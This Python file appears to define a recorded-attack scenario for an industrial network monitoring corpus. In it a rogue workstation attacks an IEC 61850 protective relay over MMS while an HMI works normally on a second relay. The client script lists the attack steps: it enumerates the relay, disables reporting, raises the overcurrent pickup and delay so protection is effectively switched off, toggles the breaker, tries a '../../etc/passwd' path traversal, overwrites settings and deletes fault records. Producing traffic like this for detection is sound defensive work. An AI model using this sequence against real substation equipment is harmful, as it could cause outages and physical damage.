"""A rogue workstation maps a relay, silences its reports, trips the breaker, raises the protection settings,
takes and deletes files and tries program and domain services, beside an HMI at work on another relay."""

from collections.abc import Iterable

from plantwatch.corpus.record import Recording

RECORDING = Recording(
    "mms/recorded-attack",
    stacks=("pyiec61850-ng 1.6.1.10",),
    servers=("10.55.1.10", "10.55.1.11"),
    clients=("10.55.1.20", "10.55.1.66"),
    listens=("tcp 102",),
)


def server() -> None:
    """The relay under attack and another one."""
    from _mms import FEEDER, TRANSFORMER
    from _mms_server import relays

    relays([FEEDER, TRANSFORMER])


def signature(said: bytes) -> Iterable[bytes]:
    """Messages without the time of day."""
    from _mms import comparable

    return comparable(said)


def client() -> None:
    """Look around, silence, operate, set, steal, delete, stop."""
    from _mms import ATTACKER, FEEDER, HMI, TRANSFORMER
    from _mms_client import REPORTS, Relay, Unsigned
    from _mms_services import download, program_control, semaphores, upload

    with Relay(HMI, TRANSFORMER) as hmi, Relay(ATTACKER, FEEDER) as rogue:
        hmi.read("XCBR1.Pos", "ST")

        rogue.service("identify")
        rogue.status()
        rogue.names()
        for node in ("XCBR1", "GGIO1", "MMXU1", "PTOC1", "LLN0"):
            for constraint in ("ST", "MX", "SP", "CF", "CO"):
                rogue.specification(node, constraint)
                rogue.read(node, constraint)
        rogue.data_set_directory("LLN0$Events")

        rogue.write(f"{REPORTS}.RptEna", "RP", False)
        rogue.write("LLN0.SGCB.ActSG", "SP", Unsigned(4))
        rogue.write("LLN0.SGCB.EditSG", "SP", Unsigned(4))
        rogue.write("LLN0.SGCB.CnfEdit", "SP", True)
        rogue.write("PTOC1.StrVal.setMag.f", "SP", 99999.0)
        rogue.write("PTOC1.OpDlTmms.setVal", "SP", 600_000)
        rogue.write("XCBR1.Pos.stVal", "ST", True)
        rogue.write("XCBR1.Pos.ctlModel", "CF", 1)
        rogue.replace_data_set("LLN0.Implant", "LLN0.Events")

        for _ in range(6):
            for value in (False, True):
                rogue.command("XCBR1.Pos", "selectWithValue", "operate", value=value)
                rogue.command("GGIO1.SPCSO1", "operate", value=value)
        rogue.command("XCBR1.BlkOpn", "select", "operate")
        rogue.command("XCBR1.BlkOpn", "select", "cancel")
        hmi.read("XCBR1.Pos", "ST")

        rogue.files()
        rogue.get_file("fault-0001.cff")
        rogue.get_file("../../etc/passwd")
        rogue.rename("settings.cfg", "settings.old")
        rogue.put_file(b"relay=F12 pickup=99999A delay=600s\n", "settings.cfg")
        rogue.delete("fault-0001.cff")

        for pdu in (*download(), *program_control(), *upload(), *semaphores()):
            rogue.send(pdu)
        hmi.read("XCBR1.Pos", "ST")
